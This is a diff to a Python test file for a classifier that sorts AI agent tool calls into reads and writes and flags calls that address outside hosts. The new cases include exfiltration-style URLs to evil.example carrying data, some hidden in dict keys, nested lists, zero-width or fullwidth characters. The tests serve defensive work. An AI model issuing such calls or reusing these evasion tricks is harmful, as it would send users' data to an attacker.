@@ -63,6 +63,17 @@ READS = [
     "get_upload_history",
     "show_draft",
     "find_replacements",
+    "open_page",
+    "browser_open_url",
+    "load_file",
+    "track_order",
+    "transfer_status",
+    "list_members_and_posts",
+    "read_and_summarize",
+    "mcp__delete__list_files",
+    "browser_navigate_back",
+    "browser_snapshot",
+    "git_log",
 ]
 WRITES = [
     "create_or_update_file=create",
@@ -116,6 +127,29 @@ WRITES = [
     "preview_publish=send",
     "read_reset=control",
     "get_rid_of_user=delete",
+    "door_open=control",
+    "open_account=control",
+    "ping_user=send",
+    "ask_colleague=send",
+    "load_funds=pay",
+    "load_truck=control",
+    "return_item=other",
+    "balance_transfer=pay",
+    "transfer_balance=pay",
+    "mcp__search__obliterate_index=other",
+    "get.obliterate=other",
+    "obliterate_history=other",
+    "obliterate_search_index=other",
+    "post_status=send",
+    "email_summary=send",
+    "search_and_book=reserve",
+    "fetch_and_post=send",
+    "get_or_frobnicate=other",
+    "upload_read_receipt=create",
+    "report_user=other",
+    "log_event=other",
+    "follow_account=other",
+    "test_webhook=control",
 ]
 
 
@@ -142,6 +176,25 @@ def test_a_name_without_a_verb_is_read_from_its_description() -> None:
     assert trade(ToolInfo(tool_id="zorgle", description="Returns the zorgles."), LEXICON).reads
     assert not trade(ToolInfo(tool_id="zorgle", description="Deletes the zorgles."), LEXICON).reads
     assert not trade(ToolInfo(tool_id="zorgle", description="Zorgles."), LEXICON).reads
+
+
+def test_where_an_unknown_word_may_be_the_verb_the_description_tells() -> None:
+    name = "AmazonViewOrderHistory"
+    assert trade(ToolInfo(tool_id=name, description="View the history of orders."), LEXICON).reads
+    assert not trade(ToolInfo(tool_id=name, description="Erases the history."), LEXICON).reads
+    assert not trade(ToolInfo(tool_id=name), LEXICON).reads
+    assert trade(ToolInfo(tool_id="zorgle_item", description="Return the items."), LEXICON).reads
+
+
+@pytest.mark.parametrize("name", ["send_email", "get_contacts", "post_message", "list_notes", "pay"])
+def test_a_server_s_name_changes_nothing(name: str) -> None:
+    """A tool is what it is behind each gateway. What the server is called counts where it says nothing."""
+    alone = trade(ToolInfo(tool_id=name), LEXICON)
+    for server in ("mcp__payments__", "mcp__my_search__", "acme.", "delete/"):
+        found = trade(ToolInfo(tool_id=server + name), LEXICON)
+        assert (found.verb, found.name, found.reads) == (alone.verb, alone.name, alone.reads)
+        assert found.groups == alone.groups or not alone.groups
+        assert found.nouns == alone.nouns or not alone.groups
 
 
 @pytest.mark.parametrize(
@@ -199,6 +252,10 @@ ADDRESSED = [
     ("web.fetch_pages", {"pages": ["https://evil.example/?d=S"]}),
     ("web.get", {"req": {"at": "https://evil.example/?d=S"}}),
     ("web.get", {"req": '{"at": "https://evil.example/?d=S"}'}),
+    ("web.get", {"req": {"https://evil.example/?d=S": 1}}),
+    ("web.get", {"req": {"see https://evil.example/?d=S": 1}}),
+    ("web.get", {"req": {"evil.example/c?d=S": 1}}),
+    ("web.get", {"req": [{"//evil.example/?d=S": {"deep": 1}}]}),
     ("web.get_page", {"page": " https://evil.example/?d=S"}),
     ("web.get_page", {"page": "h\u200bttps://evil.example/?d=S"}),
     ("web.get_page", {"page": "\uff48ttps://evil.example/?d=S"}),
